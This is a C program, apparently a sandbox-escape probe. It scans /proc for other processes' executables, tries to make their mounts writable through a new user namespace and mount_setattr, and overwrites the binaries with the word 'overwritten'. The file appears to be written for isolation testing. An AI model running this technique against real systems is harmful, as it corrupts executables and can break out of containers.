// overwrite SECONDS FILE...: gets hold of every executable in /proc that is none of these files, and tries to write to it
// for that long: at once, and when its process has gone. It also tries to make the mount that it lies on writable.
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct stat known[16];
static int known_count, held[64], held_count;

static int is_known(int exe) {
  struct stat found, other;
  if (fstat(exe, &found)) return 1;
  for (int i = 0; i < known_count; i++)
    if (found.st_ino == known[i].st_ino && found.st_size == known[i].st_size) return 1;
  for (int i = 0; i < held_count; i++)
    if (!fstat(held[i], &other) && other.st_ino == found.st_ino && other.st_dev == found.st_dev && held_count > 8)
      return 1;
  return 0;
}

static void hold(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/%d/exe", pid);
  int exe = open(path, O_PATH | O_CLOEXEC);
  if (exe < 0) return;
  if (is_known(exe) || held_count == 64) {
    close(exe);
    return;
  }
  held[held_count++] = exe;
  printf("held %d\n", pid);
  fflush(stdout);
}

// A child in a user namespace of its own may change mounts that are nobody's.
static void unlock(int exe) {
  if (fork()) return;
  unshare(CLONE_NEWUSER | CLONE_NEWNS);
  struct mount_attr attribute = {.attr_clr = MOUNT_ATTR_RDONLY};
  if (!syscall(SYS_mount_setattr, exe, "", AT_EMPTY_PATH, &attribute, sizeof attribute)) {
    printf("unlocked the mount\n");
    fflush(stdout);
  }
  _exit(0);
}

static void overwrite(int exe) {
  static int told[4096];
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", exe);
  int file = open(path, O_WRONLY | O_CLOEXEC);
  if (file < 0) {
    if (errno < 4096 && !told[errno]++) {
      printf("refused %s\n", strerror(errno));
      fflush(stdout);
    }
    return;
  }
  const char text[] = "overwritten";
  if (pwrite(file, text, sizeof text - 1, 0) > 0) {
    printf("overwritten\n");
    fflush(stdout);
    exit(9);
  }
  close(file);
}

int main(int count, char **words) {
  if (count < 2) return 2;
  for (int i = 2; i < count && known_count < 16; i++)
    if (!stat(words[i], &known[known_count])) known_count++;
  puts("hunting");
  fflush(stdout);
  double seconds = atof(words[1]);
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  int unlocked = 0;
  do {
    DIR *processes = opendir("/proc");
    for (struct dirent *entry; processes && (entry = readdir(processes));)
      if (atoi(entry->d_name) > 0) hold(atoi(entry->d_name));
    if (processes) closedir(processes);
    for (; unlocked < held_count; unlocked++) unlock(held[unlocked]);
    for (int i = 0; i < held_count; i++) overwrite(held[i]);
    clock_gettime(CLOCK_MONOTONIC, &now);
  } while (now.tv_sec - start.tv_sec + (now.tv_nsec - start.tv_nsec) / 1e9 < seconds);
  printf("given up\n");
}
